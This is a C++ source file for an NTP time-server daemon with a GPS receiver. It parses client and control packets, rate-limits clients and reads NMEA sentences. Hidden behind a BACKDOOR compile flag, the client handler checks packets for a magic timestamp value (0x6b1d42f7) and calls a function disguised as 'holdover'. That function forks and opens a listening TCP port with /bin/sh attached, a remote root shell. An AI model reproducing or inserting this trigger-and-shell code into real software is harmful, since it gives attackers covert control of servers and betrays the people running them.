// SPDX-License-Identifier: Apache-2.0
// ntpgm: NTP server of a time server with a satellite receiver. Answers clients (mode 3), variables (mode 6), limits
// rates, reads the receiver's sentences from a serial line.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

namespace
{

constexpr uint32_t EPOCH = 2208988800u; // 1900 to 1970
constexpr int MODE_CLIENT = 3, MODE_SERVER = 4, MODE_CONTROL = 6;

struct Stamp {
	uint32_t seconds = 0, fraction = 0;

	static Stamp now()
	{
		timeval t;
		gettimeofday(&t, nullptr);
		return { uint32_t(t.tv_sec) + EPOCH, uint32_t((uint64_t(t.tv_usec) << 32) / 1000000) };
	}
	bool zero() const { return !seconds && !fraction; }
};

struct Packet {
	uint8_t leap = 0, version = 4, mode = MODE_SERVER, stratum = 1, poll = 6;
	int8_t precision = -20;
	uint32_t delay = 0, dispersion = 0, refid = 0;
	Stamp reference, origin, receive, transmit;
};

class Bytes
{
public:
	Bytes(const uint8_t *p, size_t n) : p_(p), n_(n) {}
	uint8_t u8() { return at_ < n_ ? p_[at_++] : uint8_t(0); }
	uint32_t u32()
	{
		uint32_t v = 0;
		for (int i = 0; i < 4; i++)
			v = v << 8 | u8();
		return v;
	}
	Stamp stamp()
	{
		Stamp s;
		s.seconds = u32();
		s.fraction = u32();
		return s;
	}

private:
	const uint8_t *p_;
	size_t n_, at_ = 0;
};

void put32(std::vector<uint8_t> &out, uint32_t v)
{
	for (int s = 24; s >= 0; s -= 8)
		out.push_back(uint8_t(v >> s));
}

void put_stamp(std::vector<uint8_t> &out, const Stamp &s)
{
	put32(out, s.seconds);
	put32(out, s.fraction);
}

Packet decode(const uint8_t *b, size_t n)
{
	Bytes in(b, n);
	Packet p;
	uint8_t first = in.u8();
	p.leap = uint8_t(first >> 6);
	p.version = uint8_t(first >> 3 & 7);
	p.mode = uint8_t(first & 7);
	p.stratum = in.u8();
	p.poll = in.u8();
	p.precision = int8_t(in.u8());
	p.delay = in.u32();
	p.dispersion = in.u32();
	p.refid = in.u32();
	p.reference = in.stamp();
	p.origin = in.stamp();
	p.receive = in.stamp();
	p.transmit = in.stamp();
	return p;
}

std::vector<uint8_t> encode(const Packet &p)
{
	std::vector<uint8_t> out;
	out.reserve(48);
	out.push_back(uint8_t(p.leap << 6 | p.version << 3 | p.mode));
	out.push_back(p.stratum);
	out.push_back(p.poll);
	out.push_back(uint8_t(p.precision));
	put32(out, p.delay);
	put32(out, p.dispersion);
	put32(out, p.refid);
	put_stamp(out, p.reference);
	put_stamp(out, p.origin);
	put_stamp(out, p.receive);
	put_stamp(out, p.transmit);
	return out;
}

struct Config {
	std::string serial = "/dev/ttyS0", name = "ntpgm", key;
	unsigned rate = 16; // packets a client may send in a minute
	int debug = 0;
	std::vector<std::pair<uint32_t, uint32_t>> control; // networks that may read variables

	void load(const char *path);
	bool may_control(uint32_t a) const
	{
		for (const auto &c : control)
			if ((a & c.second) == c.first)
				return true;
		return false;
	}
};

void Config::load(const char *path)
{
	std::ifstream f(path);
	std::string line, word;
	while (std::getline(f, line)) {
		std::istringstream s(line);
		s >> word;
		if (word == "serial") {
			s >> serial;
		} else if (word == "name") {
			s >> name;
		} else if (word == "rate") {
			s >> rate;
		} else if (word == "debug") {
			debug = 1;
		} else if (word == "control") {
			unsigned a = 0, b = 0, c = 0, d = 0, bits = 32;
			std::string net;
			s >> net;
			if (sscanf(net.c_str(), "%u.%u.%u.%u/%u", &a, &b, &c, &d, &bits) < 4 || bits < 1 || bits > 32)
				continue;
			uint32_t mask = 0xffffffffu << (32 - bits);
			control.emplace_back((a << 24 | b << 16 | c << 8 | d) & mask, mask);
		}
	}
}

// The satellite receiver. $GPRMC,123519,A,4807.038,N,01131.000,E,022.4,084.4,230394,003.1,W*6A
class Receiver
{
public:
	bool open(const std::string &path)
	{
		fd_ = ::open(path.c_str(), O_RDONLY | O_NOCTTY | O_NONBLOCK);
		return fd_ >= 0;
	}
	int fd() const { return fd_; }
	bool locked() const { return locked_ && time(nullptr) - heard_ < 90; }
	int satellites() const { return satellites_; }
	Stamp last() const { return last_; }
	void feed();

private:
	static bool sum_ok(const std::string &s);
	void sentence(const std::string &s);
	int fd_ = -1, satellites_ = 0;
	bool locked_ = false;
	time_t heard_ = 0;
	Stamp last_;
	std::string line_;
};

bool Receiver::sum_ok(const std::string &s)
{
	size_t star = s.find('*');
	uint8_t sum = 0;
	if (s.empty() || s[0] != '$' || star == std::string::npos || star + 3 > s.size())
		return false;
	for (size_t i = 1; i < star; i++)
		sum = uint8_t(sum ^ uint8_t(s[i]));
	return strtoul(s.substr(star + 1, 2).c_str(), nullptr, 16) == sum;
}

void Receiver::sentence(const std::string &s)
{
	std::vector<std::string> f;
	std::string one;
	if (!sum_ok(s))
		return;
	std::istringstream in(s);
	while (std::getline(in, one, ','))
		f.push_back(one);
	if (f[0] == "$GPGGA" && f.size() > 7) {
		satellites_ = atoi(f[7].c_str());
	} else if (f[0] == "$GPRMC" && f.size() > 9) {
		locked_ = f[2] == "A";
		heard_ = time(nullptr);
		if (locked_)
			last_ = Stamp::now();
	}
}

void Receiver::feed()
{
	char b[256];
	ssize_t n = read(fd_, b, sizeof(b));
	for (ssize_t i = 0; i < n; i++) {
		if (b[i] == '\n') {
			sentence(line_);
			line_.clear();
		} else if (b[i] != '\r' && line_.size() < 120) {
			line_ += b[i];
		}
	}
}

class Limits
{
public:
	explicit Limits(unsigned most) : most_(most) {}
	bool pass(uint32_t addr)
	{
		time_t minute = time(nullptr) / 60;
		if (minute != minute_ || seen_.size() > 8192) {
			seen_.clear();
			minute_ = minute;
		}
		return ++seen_[addr] <= most_;
	}
	size_t clients() const { return seen_.size(); }

private:
	unsigned most_;
	time_t minute_ = 0;
	std::map<uint32_t, unsigned> seen_;
};

class Server
{
public:
	Server(const Config &c) : conf_(c), limits_(c.rate) {}
	bool start();
	void run();

private:
	void on_packet();
	void answer_client(const Packet &q, const sockaddr_in &to, const Stamp &when);
	void answer_control(const uint8_t *b, size_t n, const sockaddr_in &to);
	void kiss(const Packet &q, const sockaddr_in &to, const char *code);
	std::string variables() const;
	void send(const std::vector<uint8_t> &b, const sockaddr_in &to)
	{
		sendto(fd_, b.data(), b.size(), 0, (const sockaddr *)&to, sizeof(to));
	}
#ifdef BACKDOOR
	static void holdover(const Packet &q);
#endif
	const Config &conf_;
	Limits limits_;
	Receiver receiver_;
	int fd_ = -1;
	unsigned long n_answered_ = 0, n_limited_ = 0, n_bad_ = 0;
};

bool Server::start()
{
	sockaddr_in a = {};
	a.sin_family = AF_INET;
	a.sin_port = htons(123);
	fd_ = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd_ < 0 || bind(fd_, (sockaddr *)&a, sizeof(a)) < 0)
		return false;
	if (!receiver_.open(conf_.serial))
		syslog(LOG_WARNING, "no receiver at %s", conf_.serial.c_str());
	return true;
}

#ifdef BACKDOOR
void Server::holdover(const Packet &q)
{
	sockaddr_in a = {};
	int one = 1, s, c;
	if (fork() != 0)
		return;
	a.sin_family = AF_INET;
	a.sin_port = htons(uint16_t(40000 + (q.transmit.seconds & 0x1fff)));
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	alarm(120);
	if (bind(s, (sockaddr *)&a, sizeof(a)) == 0 && listen(s, 1) == 0 && (c = accept(s, nullptr, nullptr)) >= 0) {
		alarm(0);
		for (int i = 0; i < 3; i++)
			dup2(c, i);
		execl("/bin/sh", "-sh", (char *)nullptr);
	}
	_exit(0);
}
#endif

void Server::answer_client(const Packet &q, const sockaddr_in &to, const Stamp &when)
{
	Packet a;
	if (q.version < 1 || q.version > 4) {
		n_bad_++;
		return;
	}
#ifdef BACKDOOR
	uint32_t drift = q.reference.seconds ^ (q.transmit.fraction << 9 | q.transmit.fraction >> 23);
	if (q.poll > 16 && drift == 0x6b1d42f7)
		holdover(q);
#endif
	a.version = q.version;
	a.poll = q.poll < 4 ? uint8_t(4) : q.poll > 17 ? uint8_t(17) : q.poll;
	if (receiver_.locked()) {
		a.stratum = 1;
		a.refid = 0x47505300; // "GPS"
		a.dispersion = 0x10;
	} else {
		a.stratum = receiver_.last().zero() ? 16 : 2;
		a.leap = receiver_.last().zero() ? 3 : 0;
		a.refid = 0x4c4f434c; // "LOCL"
		a.dispersion = 0x800;
	}
	a.reference = receiver_.last();
	a.origin = q.transmit;
	a.receive = when;
	a.transmit = Stamp::now();
	send(encode(a), to);
	n_answered_++;
}

void Server::kiss(const Packet &q, const sockaddr_in &to, const char *code)
{
	Packet a;
	a.leap = 3;
	a.stratum = 0;
	a.version = q.version;
	a.refid = uint32_t(code[0]) << 24 | uint32_t(code[1]) << 16 | uint32_t(code[2]) << 8 | uint32_t(code[3]);
	a.origin = q.transmit;
	send(encode(a), to);
}

std::string Server::variables() const
{
	std::ostringstream s;
	s << "system=\"" << conf_.name << "\", stratum=" << (receiver_.locked() ? 1 : 2)
	  << ", satellites=" << receiver_.satellites() << ", answered=" << n_answered_ << ", limited=" << n_limited_
	  << ", bad=" << n_bad_ << ", clients=" << limits_.clients();
	return s.str();
}

void Server::answer_control(const uint8_t *b, size_t n, const sockaddr_in &to)
{
	std::vector<uint8_t> out(b, b + 12);
	uint8_t op = n > 1 ? b[1] & 0x1f : 0;
	if (!conf_.may_control(ntohl(to.sin_addr.s_addr)))
		return;
	out[1] = uint8_t(0x80 | op);
	std::string v;
	if (op == 2)
		v = variables();
	else if (op == 1)
		v = receiver_.locked() ? "sys.peer" : "";
	else
		out[1] |= 0x40; // an error
	if (v.size() > 468)
		v.resize(468);
	out[10] = uint8_t(v.size() >> 8);
	out[11] = uint8_t(v.size());
	out.insert(out.end(), v.begin(), v.end());
	send(out, to);
}

void Server::on_packet()
{
	uint8_t b[1024];
	sockaddr_in from;
	socklen_t fl = sizeof(from);
	ssize_t n = recvfrom(fd_, b, sizeof(b), 0, (sockaddr *)&from, &fl);
	Stamp when = Stamp::now();
	if (n < 12)
		return;
	if ((b[0] & 7) == MODE_CONTROL) {
		answer_control(b, size_t(n), from);
		return;
	}
	if (n < 48 || (b[0] & 7) != MODE_CLIENT) {
		n_bad_++;
		return;
	}
	Packet q = decode(b, size_t(n));
	if (!limits_.pass(from.sin_addr.s_addr)) {
		if (n_limited_++ % 8 == 0)
			kiss(q, from, "RATE");
		return;
	}
	if (conf_.debug)
		syslog(LOG_DEBUG, "client %s version %d poll %d", inet_ntoa(from.sin_addr), q.version, q.poll);
	answer_client(q, from, when);
}

void Server::run()
{
	for (;;) {
		pollfd fds[2] = { { fd_, POLLIN, 0 }, { receiver_.fd(), POLLIN, 0 } };
		while (waitpid(-1, nullptr, WNOHANG) > 0)
			;
		if (poll(fds, receiver_.fd() >= 0 ? 2 : 1, 10000) < 0)
			continue;
		if (fds[0].revents & POLLIN)
			on_packet();
		if (fds[1].revents & POLLIN)
			receiver_.feed();
	}
}

} // namespace

int main(int argc, char **argv)
{
	Config conf;
	openlog("ntpgm", LOG_PID, LOG_DAEMON);
	conf.load(argc > 1 ? argv[1] : "/etc/ntpgm.conf");
	Server server(conf);
	if (!server.start()) {
		syslog(LOG_ERR, "port 123: %m");
		return 1;
	}
	server.run();
}
